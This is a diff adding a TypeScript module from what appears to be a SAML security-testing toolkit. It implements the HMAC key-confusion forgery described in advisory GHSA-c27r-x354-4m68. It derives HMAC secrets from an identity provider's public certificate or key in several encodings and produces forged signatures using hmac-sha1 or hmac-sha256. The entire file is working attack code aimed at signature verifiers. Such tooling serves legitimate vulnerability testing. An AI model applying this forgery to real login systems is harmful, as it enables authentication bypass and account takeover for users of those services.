@@ -1,0 +1,44 @@
+/** The trusted public key used as a shared secret: HMAC where a public-key signature was due (GHSA-c27r-x354-4m68). */
+
+import { X509Certificate } from 'node:crypto';
+import type { Mutation } from '../protocol/types.ts';
+import { forgedWith } from './signatures.ts';
+
+/** The public bytes that a confused verifier may take as the HMAC key. */
+export type PublicBytes =
+  'certificate-pem' | 'certificate-pem-newline' | 'certificate-der' | 'key-pem' | 'key-pem-newline' | 'key-der';
+
+export function publicBytes(certificateBase64: string, form: PublicBytes): Buffer {
+  const der = Buffer.from(certificateBase64, 'base64');
+  const key = new X509Certificate(der).publicKey;
+  const certificatePem = `-----BEGIN CERTIFICATE-----\n${certificateBase64.replace(/(.{64})(?=.)/g, '$1\n')}\n-----END CERTIFICATE-----`;
+  const keyPem = key.export({ type: 'spki', format: 'pem' }).toString().trimEnd();
+  switch (form) {
+    case 'certificate-pem':
+      return Buffer.from(certificatePem);
+    case 'certificate-pem-newline':
+      return Buffer.from(`${certificatePem}\n`);
+    case 'certificate-der':
+      return der;
+    case 'key-pem':
+      return Buffer.from(keyPem);
+    case 'key-pem-newline':
+      return Buffer.from(`${keyPem}\n`);
+    case 'key-der':
+      return key.export({ type: 'spki', format: 'der' });
+  }
+}
+
+const methods = {
+  sha1: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
+  sha256: 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256',
+};
+
+/** Forges the victim with an HMAC keyed by bytes that anybody can read in the metadata. */
+export function hmacForged(hash: keyof typeof methods, form: PublicBytes): Mutation {
+  return forgedWith((facts) => ({
+    signatureMethod: methods[hash],
+    hmacKey: publicBytes(facts.idp.certificateBase64, form),
+    keyInfo: 'none',
+  }));
+}
